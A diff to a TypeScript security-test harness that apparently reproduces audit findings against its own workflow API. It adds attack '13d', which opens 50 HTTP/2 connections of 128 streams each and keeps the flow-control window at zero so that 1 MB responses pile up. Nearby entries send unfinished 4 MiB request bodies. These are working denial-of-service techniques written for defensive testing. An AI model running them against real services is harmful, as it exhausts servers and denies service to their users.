@@ -1,15 +1,40 @@
-// Findings 14, 15 and 16: bodies and keys.
+// Findings 14, 15 and 16: bodies and keys; and of 13 the replies that need a key.
 
 import { randomUUID } from "node:crypto";
 import { once } from "node:events";
 import type { Attack } from "../attack.ts";
 import { type Attacker, grpcFrame } from "../attacker.ts";
-import { publishLine } from "../tenants.ts";
+import { callApi, publishLine } from "../tenants.ts";
 
 const messageBytes = 4 * 1024 ** 2;
 const unfinished = grpcFrame(Buffer.alloc(messageBytes - 100), messageBytes);
 
 export const bodies: readonly Attack[] = [
+  {
+    id: "13d",
+    title: "a response of 1 MB on 128 streams of HTTP/2 whose window stays shut, 50 connections",
+    prepare: async ({ tenant }) => {
+      await publishLine(tenant, "large", [{ response: { data: "{{event.body}}" } }]);
+      const headers = { linked_account_id: tenant.account, prefer: "wait=10" };
+      const body = { s: "x".repeat(1_000_000) };
+      const { execution_id } = await callApi(tenant, "POST", "/api/v1/workflow/large/execute", body, headers);
+      return { id: String(execution_id) };
+    },
+    run: async (attacker) => {
+      const { given, key, account } = attacker.options;
+      const path = `/api/v1/execution/${given["id"]}/response`;
+      await attacker.repeat(50, async () => {
+        const session = attacker.connectHttp2();
+        session.settings({ initialWindowSize: 0 });
+        for (let stream = 0; stream < 128; stream += 1) {
+          const request = session.request({ ":path": path, "x-api-key": key, linked_account_id: account });
+          request.on("error", () => attacker.count("stream failed"));
+          request.once("response", (head) => attacker.count(`stream ${head[":status"]}`));
+        }
+        await once(session, "close", { signal: attacker.signal });
+      });
+    },
+  },
   {
     id: "14",
     title: "unfinished bodies of 4 MiB to ExecuteWorkflow with a good key, 4 connections with 128 streams each",
